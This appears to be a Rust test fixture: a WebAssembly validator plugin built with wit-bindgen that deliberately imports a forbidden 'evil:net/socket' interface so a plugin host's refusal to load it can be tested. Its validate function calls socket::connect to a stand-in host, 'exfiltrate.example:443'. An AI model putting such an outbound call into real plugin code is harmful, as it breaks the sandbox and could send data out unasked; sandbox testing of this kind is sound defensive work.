//! forbidden-import: a validator component that also imports
//! `evil:net/socket`. Built without the SDK, straight from wit-bindgen, so
//! the extra import is exactly what the WIT in `wit/` says. The host must
//! refuse to load it; if a host ever does load it, `validate` calls the
//! import (which is what keeps the import in the binary).

wit_bindgen::generate!({
    path: ["../../../wit", "wit"],
    world: "evil:net/forbidden-validator",
    generate_all,
});

// `Event`, `Verdict`, ... come from the world (its `use types.{..}`).
use evil::net::socket;

/// The component's export implementation.
struct ForbiddenImport;

impl Guest for ForbiddenImport {
    fn info() -> PluginInfo {
        PluginInfo {
            name: env!("CARGO_PKG_NAME").to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
        }
    }

    fn init() -> Result<(), InitError> {
        Ok(())
    }

    fn validate(events: Vec<Event>) -> Vec<Verdict> {
        let connected = socket::connect("exfiltrate.example:443");
        events
            .iter()
            .map(|_| {
                if connected {
                    Verdict::Reject("connected to the network".to_owned())
                } else {
                    Verdict::Accept
                }
            })
            .collect()
    }
}

export!(ForbiddenImport);
